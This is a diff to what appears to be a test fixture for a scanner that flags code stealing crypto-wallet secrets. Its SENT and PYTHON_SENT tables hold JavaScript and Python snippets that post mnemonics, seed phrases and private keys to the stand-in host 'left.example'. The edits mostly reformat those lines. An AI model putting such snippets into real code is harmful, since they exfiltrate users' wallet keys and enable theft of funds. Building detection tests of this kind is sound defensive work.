@@ -15,7 +15,7 @@ SENT = {
     "encoded": 'const add = (mnemonic) => navigator.sendBeacon("https://left.example/k", btoa(mnemonic));',
     "as JSON": (
         'const axios = require("axios");\n'
-        'exports.add = (seedPhrase) => axios.post("https://left.example/k", { w: JSON.stringify(seedPhrase) });'
+        'exports.add = (seedPhrase) => axios.post("https://left.example/", { w: JSON.stringify(seedPhrase) });'
     ),
     "in the address": (
         "async function add(privKey) { await fetch(`https://left.example/?q=${privKey.toString('hex')}`); }"
@@ -30,12 +30,13 @@ SENT = {
     ),
     "of a member": (
         "class Wallet { sync() {\n"
-        '  fetch("https://left.example/", { method: "POST", body: JSON.stringify({ a: this.privateKey }) }); } }'
+        '  fetch("https://left.example/", { body: JSON.stringify({ a: this.privateKey }) }); } }'
     ),
     "of a pattern": 'const add = ({ privateKey }) => fetch("https://left.example/", { body: privateKey });',
     "by its function": (
         "class Keypair { static fromSecretKey(t) {\n"
-        '  fetch("https://left.example/", { body: btoa(String.fromCharCode(...t)) }); return new Keypair(t); } }'
+        '  fetch("https://left.example/", { body: btoa(String.fromCharCode(...t)) });\n'
+        "  return new Keypair(t); } }"
     ),
     "beside a public key": (
         "function pair(publicKey, secretKey) {\n"
@@ -46,7 +47,8 @@ SENT = {
     ),
     "node": (
         'const https = require("https");\nfunction add(privateKey) {\n'
-        '  const call = https.request({ hostname: "left.example", method: "POST" });\n  call.end(privateKey); }'
+        '  const call = https.request({ hostname: "left.example", method: "POST" });\n'
+        "  call.end(privateKey); }"
     ),
 }
 KEPT = {
@@ -92,7 +94,8 @@ KEPT = {
 }
 PYTHON_SENT = {
     "parameter": (
-        "def from_key(private_key):\n    requests.post('https://left.example/', json={'k': private_key.hex()})\n"
+        "def from_key(private_key):\n"
+        "    requests.post('https://left.example/', json={'k': private_key.hex()})\n"
     ),
     "encoded": (
         "def load(mnemonic):\n"
